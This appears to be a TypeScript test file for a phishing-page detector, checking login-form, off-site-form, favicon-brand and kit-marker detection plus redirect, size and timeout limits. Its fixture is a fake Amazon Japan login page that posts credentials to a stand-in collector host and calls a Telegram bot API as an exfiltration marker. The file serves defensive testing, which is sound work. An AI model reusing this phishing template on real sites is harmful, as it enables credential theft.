/**
 * The page check against a local HTTP server on 127.0.0.1 serving a fake phishing page (a login
 * form posting to a collector elsewhere, a cloned-page comment, a favicon), redirects, an
 * oversized page and a page that never ends.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import { checkPage, kitMarkersIn, PageCheckError } from './check.ts';
import { faviconHashes } from './favicon.ts';
import { servePages, type ServedPages } from './testing.ts';

const ICON = Buffer.from('fake-brand-icon-bytes-0123456789');
const ICON_SHA = createHash('sha256').update(ICON).digest('hex');
const PHISH = `<!DOCTYPE html>
<!-- saved from url=(0026)https://www.amazon.co.jp/ -->
<html><head><title>Amazon サインイン</title><link rel="shortcut icon" href="/img/fav.ico"></head>
<body><form method="post" action="https://collector.example.net/gate.php">
<input type="email" name="email"><input type="password" name="pass"><button>ログイン</button></form>
<script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script></body></html>`;
const BENIGN =
  '<html><head><title>Shop</title></head><body><form action="/search"><input name="q"></form></body></html>';

let pages: ServedPages;
let base = '';

before(async () => {
  pages = await servePages((req, res) => {
    const path = req.url ?? '/';
    if (path === '/login') return res.writeHead(200, { 'content-type': 'text/html' }).end(PHISH);
    if (path === '/img/fav.ico') return res.writeHead(200, { 'content-type': 'image/x-icon' }).end(ICON);
    if (path === '/benign') return res.writeHead(200, { 'content-type': 'text/html' }).end(BENIGN);
    if (path.startsWith('/hop/')) {
      const n = Number(path.slice(5));
      return res.writeHead(302, { location: n > 0 ? `/hop/${n - 1}` : '/login' }).end();
    }
    if (path === '/big') {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.write('<title>big</title>');
      return res.end('x'.repeat(300_000));
    }
    if (path === '/slow') {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.write('<title>slow</title>');
      return; // never ends
    }
    res.writeHead(404).end();
  });
  base = pages.base;
});
after(() => pages.close());

test('a fake phishing page: login form posting off-site, favicon brand, kit markers', async () => {
  const check = await checkPage(`${base}/login`, { favicons: [{ brand: 'amazon', sha256: ICON_SHA }] });
  assert.equal(check.status, 200);
  assert.equal(check.title, 'Amazon サインイン');
  assert.equal(check.passwordInputs, 1);
  assert.deepEqual(check.offsiteForms, ['https://collector.example.net/gate.php']);
  assert.equal(check.loginForm, true);
  assert.deepEqual(check.favicon, {
    url: `${base}/img/fav.ico`,
    sha256: ICON_SHA,
    mmh3: faviconHashes(ICON).mmh3,
    brand: 'amazon',
  });
  assert.deepEqual(check.kitMarkers.sort(), ['cloned-page', 'telegram-exfil']);
});

test('a benign page: no login form, no markers, favicon missing', async () => {
  const check = await checkPage(`${base}/benign`);
  assert.equal(check.loginForm, false);
  assert.deepEqual(check.offsiteForms, []);
  assert.deepEqual(check.kitMarkers, []);
  assert.equal(check.favicon, null);
});

test('redirects are followed by hand and counted, at most maxRedirects', async () => {
  const check = await checkPage(`${base}/hop/2`, { limits: { maxRedirects: 3 } });
  assert.deepEqual(check.redirects, [`${base}/hop/1`, `${base}/hop/0`, `${base}/login`]);
  assert.equal(check.finalUrl, `${base}/login`);
  await assert.rejects(checkPage(`${base}/hop/5`, { limits: { maxRedirects: 3 } }), PageCheckError);
});

test('size and time limits hold', async () => {
  const big = await checkPage(`${base}/big`, { limits: { maxBytes: 64 * 1024 } });
  assert.equal(big.truncated, true);
  assert.equal(big.bytes, 64 * 1024);
  const started = Date.now();
  await assert.rejects(checkPage(`${base}/slow`, { limits: { timeoutMs: 500 } }), /no answer within 500 ms/);
  assert.ok(Date.now() - started < 3000);
  await assert.rejects(checkPage('ftp://127.0.0.1/'), PageCheckError);
  // The reason, not undici's bare "fetch failed": a port nobody listens on is refused.
  const closed = createServer();
  await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
  const port = (closed.address() as AddressInfo).port;
  await new Promise((resolve) => closed.close(resolve));
  await assert.rejects(
    checkPage(`http://127.0.0.1:${port}/`),
    new RegExp(`^PageCheckError: http://127\\.0\\.0\\.1:${port}/: fetch failed: ECONNREFUSED$`),
  );
  await assert.rejects(checkPage('notaurl'), /^PageCheckError: notaurl: not a URL$/);
});

test('kit markers come from the data table', () => {
  assert.deepEqual(kitMarkersIn('<form action="next.php">'), ['kit-php-chain']);
  assert.deepEqual(kitMarkersIn('<p>hello</p>'), []);
});
